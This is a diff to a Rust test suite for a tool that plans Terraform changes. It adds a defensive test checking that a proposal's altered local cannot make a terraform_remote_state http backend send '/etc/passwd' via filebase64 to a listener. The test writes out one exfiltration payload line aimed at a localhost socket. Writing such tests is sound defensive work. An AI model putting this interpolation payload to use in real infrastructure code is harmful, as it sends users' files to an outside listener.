@@ -182,6 +182,41 @@ fn what_would_do_more_than_be_planned_is_not_planned() {
     assert_eq!(agents.scratch(), Vec::<PathBuf>::new());
 }
 
+/// Seen: an accepted remote state takes its address from a local, and a proposal changes the local. Its plan would have sent
+/// a file of the user's to whoever listens there.
+#[test]
+fn a_plan_of_a_proposal_sends_nothing_through_what_was_accepted_before() {
+    if !has_terraform() {
+        return;
+    }
+    let agents = guarded();
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let address = format!("http://{}", listener.local_addr().unwrap());
+    let verbatim = |name: &str, text: &str| {
+        let add = json!({ "addNode": {
+            "board": "infrastructure", "type": "terraform/core/verbatim", "name": name, "props": { "text": text }
+        } });
+        agents.running().ask(Request::Run(serde_json::from_value(add).unwrap())).unwrap();
+    };
+    let locals = |value: &str| format!("locals {{\n  address = \"{value}\"\n  other = 1\n}}");
+    verbatim("own", &locals(&address));
+    verbatim(
+        "state",
+        "data \"terraform_remote_state\" \"x\" {\n  backend = \"http\"\n  config = { address = local.address }\n}",
+    );
+    let (stream, _) = agents.bridge();
+    let text = locals(&format!("{address}/${{filebase64(\"/etc/passwd\")}}"));
+    ok(&stream, "update_resource", json!({ "instanceId": "own", "properties": { "text": text } }));
+    let id = id_of(&ok(&stream, "submit_proposal", json!({ "title": "A local" })));
+    let refusal = agents.plan(id).unwrap_err();
+    assert!(refusal.message.contains("data terraform_remote_state x in main.tf"), "{refusal:?}");
+    assert!(refusal.message.contains("the changed local.address"), "{refusal:?}");
+    assert!(refusal.hints[0].contains("plan the board yourself"));
+    listener.set_nonblocking(true).unwrap();
+    assert!(listener.accept().is_err(), "nothing was sent");
+    assert_eq!(agents.scratch(), Vec::<PathBuf>::new());
+}
+
 /// Plans for ever, unless it is told to stop.
 const SLOW: &str = "#!/bin/sh\ncase \"$1\" in\n  version) echo 'Terraform v1.9.0' ;;\n  init) echo ready ;;\n  \
     plan) ls; exec sleep 600 ;;\nesac\n";
@@ -196,10 +231,8 @@ fn a_plan_can_be_cancelled_goes_on_one_at_a_time_and_leaves_nothing() {
     // Written by a process of its own: a child that another test forks now would hold ours open, and what is open for
     // writing cannot be run.
     assert!(std::process::Command::new("cp").arg("-p").args([&text, &program]).status().unwrap().success());
-    let config = agents.running().root.join("draftboard.toml");
-    let mut text = fs::read_to_string(&config).unwrap();
-    text.push_str(&format!("\n[infrastructure]\nprogram = {:?}\n", program.display().to_string()));
-    fs::write(&config, text).unwrap();
+    let settings = format!("[terraform]\nprogram = {:?}\n", program.display().to_string());
+    fs::write(agents.running().user().settings, settings).unwrap();
     let heard = agents.window();
     let (stream, _) = agents.bridge();
     let node =
